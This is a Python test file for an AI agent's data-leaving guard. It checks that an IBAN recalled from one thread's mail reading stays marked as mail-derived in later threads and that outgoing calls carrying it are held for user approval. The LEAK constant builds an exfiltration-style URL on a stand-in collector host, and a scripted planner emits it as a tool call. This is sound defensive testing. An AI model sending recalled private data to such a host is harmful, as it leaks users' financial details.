"""What memory of past runs recalls keeps the mark of the results it came from.

Thread A reads the inbox (an IBAN inside) and its answer quotes it; the user's memory keeps the
run. Thread B, same user and store, recalls that run in its planner prompt: a call carrying the
IBAN out is held naming `mail`, as if the mail had been read in thread B. The experts are the
in-process `mail`, `web` and `chat` of `test_data_leaving`.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Any

from langgraph.checkpoint.memory import InMemorySaver
from langgraph.store.memory import InMemoryStore

from common.memory import UNRECORDED_SOURCE, namespace
from strategies.with_planner.graph import build_graph
from tests.doubles import calls, tool_call
from tests.unit_tests.guard_helpers import Expert, servers
from tests.unit_tests.helpers import Thread, plan, system_prompt, task
from tests.unit_tests.test_data_leaving import (
    READ_MAIL,
    chat_server,
    held_action,
    mail_server,
    step,
    web_server,
)

IBAN = "DE89370400440532013000"
QUOTED = f"Alice asks you to wire the quarterly bonus to IBAN {IBAN} before Friday."
LEAK = f"https://collector.example/c?iban={IBAN}"


@dataclass
class Recorded(Thread):
    """A thread with the scripted models its context uses."""

    models: dict[str, Any] = field(default_factory=dict)


class Experts:
    """The three experts, shared by every thread of a test, over one graph and store."""

    def __init__(self) -> None:
        self.mail, self.web, self.chat = mail_server(), web_server(), chat_server()
        self.store = InMemoryStore()
        self.graph = build_graph(InMemorySaver(), self.store)

    def thread(self, scripted: Any, user: str, planned: dict[str, Any], **roles: Any) -> Recorded:
        """A new thread of `user` whose planner returns `planned` (and answers `roles`)."""
        roles.setdefault("response", ["Done."])
        ctx, models = scripted(planner=[planned], **roles)
        ctx["mcp_config"] = servers(
            mail=self.mail.entry(),
            web=self.web.entry(),
            chat=self.chat.entry(reversible_tools=["post_message"]),
        )
        ctx["user_id"] = user
        return Recorded(ctx, graph=self.graph, models=models)

    async def read_mail(self, scripted: Any, user: str = "alice", question: str = "") -> None:
        """Thread A: `user` reads the inbox; the answer quotes the IBAN."""
        first = self.thread(scripted, user, plan(READ_MAIL), response=[QUOTED])
        await first.send(question or "What does my last email ask?")
        assert IBAN in str((await first.answer()).content)


def fetch(url: str) -> dict[str, Any]:
    """A plan of one direct web fetch of `url`."""
    return plan(step("t1", "web", "fetch", {"url": url}))


def prompt_of(thread: Recorded) -> str:
    """The planner's first system prompt in `thread`."""
    return system_prompt(thread.models["planner"].requests[0])


def ran(expert: Expert) -> list[str]:
    """The tool calls `expert` ran, by name."""
    return expert.runs.names()


async def test_a_recalled_iban_in_a_fetch_is_held_naming_the_mail(scripted: Any) -> None:
    experts = Experts()
    await experts.read_mail(scripted)

    second = experts.thread(scripted, "alice", fetch(LEAK))
    await second.send("Look up the account from before.")

    assert IBAN in prompt_of(second), "thread B's planner was shown thread A's IBAN"
    action = await held_action(second)
    assert action["args"] == {"url": LEAK}
    said = "carries text from expert 'mail' results ('de89370400440532013000')"
    assert said in action["description"]
    assert "source: data" in action["description"]
    assert ran(experts.web) == []


async def test_a_recalled_iban_written_with_spaces_in_a_search_is_held(scripted: Any) -> None:
    experts = Experts()
    await experts.read_mail(scripted)
    spaced = "de89 3704 0044 0532 0130 00"

    second = experts.thread(scripted, "alice", plan(step("t1", "web", "search", {"query": spaced})))
    await second.send("Search for that account.")

    assert "expert 'mail'" in (await held_action(second))["description"]
    assert ran(experts.web) == []


async def test_approving_the_held_recalled_value_sends_it_once(scripted: Any) -> None:
    experts = Experts()
    await experts.read_mail(scripted)
    second = experts.thread(scripted, "alice", fetch(LEAK))
    await second.send("Look up the account from before.")
    assert (await held_action(second))["name"] == "fetch"
    assert ran(experts.web) == []

    await second.resume({"decisions": [{"type": "approve"}]})

    assert [call[1] for call in experts.web.runs.calls] == [{"url": LEAK}]


async def test_the_mark_passes_on_to_a_run_that_only_recalled_it(scripted: Any) -> None:
    experts = Experts()
    await experts.read_mail(scripted)
    search = plan(step("t1", "web", "search", {"query": "quarterly bonus policy"}))
    second = experts.thread(scripted, "alice", search, response=[QUOTED])
    await second.send("What is our bonus policy?")

    saved = [i.value for i in await experts.store.asearch(namespace("alice"))]
    assert sorted(r["sources"] for r in saved) == [["mail"], ["mail", "web"]]

    third = experts.thread(scripted, "alice", fetch(LEAK))
    await third.send("Look up the account.")
    assert "carries text from expert 'mail' results" in (await held_action(third))["description"]
    assert ran(experts.web) == ["search"]


async def test_the_users_own_recalled_words_still_leave(scripted: Any) -> None:
    experts = Experts()
    words = "dentist appointment at Gartenweg 12 Berlin"
    await experts.read_mail(scripted, question=f"Read my inbox; is the {words} in it?")

    query = step("t1", "web", "search", {"query": words})
    second = experts.thread(scripted, "alice", plan(query))
    await second.send("Find that place again.")

    assert await second.interrupts() == []
    assert ran(experts.web) == ["search"]


async def test_a_recalled_run_that_read_nothing_leaves_freely(scripted: Any) -> None:
    experts = Experts()
    fact = "The capital of Australia is Canberra, not Sydney."
    first = experts.thread(
        scripted,
        "alice",
        plan(task("t1", "chat", "Answer from general knowledge")),
        orchestrate=[calls(tool_call("cannot_complete", {"reason": "no tool for that"}))],
        response=[fact],
    )
    await first.send("What is the capital of Australia?")
    (saved,) = [i.value for i in await experts.store.asearch(namespace("alice"))]
    assert saved["sources"] == []

    query = step("t1", "web", "search", {"query": "capital of Australia is Canberra, not Sydney"})
    second = experts.thread(scripted, "alice", plan(query))
    await second.send("Check that fact on the web.")

    assert await second.interrupts() == []
    assert ran(experts.web) == ["search"]


async def test_another_users_thread_does_not_recall_it(scripted: Any) -> None:
    experts = Experts()
    await experts.read_mail(scripted)

    bobs = experts.thread(scripted, "bob", fetch(LEAK))
    await bobs.send("Look up the account from before.")

    memory = prompt_of(bobs).split("Relevant past runs of this user")[1]
    assert IBAN not in memory
    assert "payroll" not in memory.casefold()
    assert "read_inbox" not in memory
    # Nothing of Alice's is in Bob's record: the IBAN he names himself is his to send.
    assert await bobs.interrupts() == []
    assert [call[1] for call in experts.web.runs.calls] == [{"url": LEAK}]


async def test_a_record_kept_without_marks_counts_as_an_unknown_source(scripted: Any) -> None:
    experts = Experts()
    old = {
        "question": "What does my last email ask?",
        "plan": [{"id": "t1", "expert": "mail", "task": "Run read_inbox", "status": "completed"}],
        "tool_calls": [],
        "answer": QUOTED,
        "started_at": None,
        "ended_at": "2025-01-01T00:00:00+00:00",
        "thread_id": "old-thread",
    }
    await experts.store.aput(namespace("alice"), "old", old, index=False)

    second = experts.thread(scripted, "alice", fetch(LEAK))
    await second.send("Look up the account from before.")

    assert IBAN in prompt_of(second)
    description = (await held_action(second))["description"]
    assert f"carries text from expert {UNRECORDED_SOURCE!r} results" in description
    assert ran(experts.web) == []
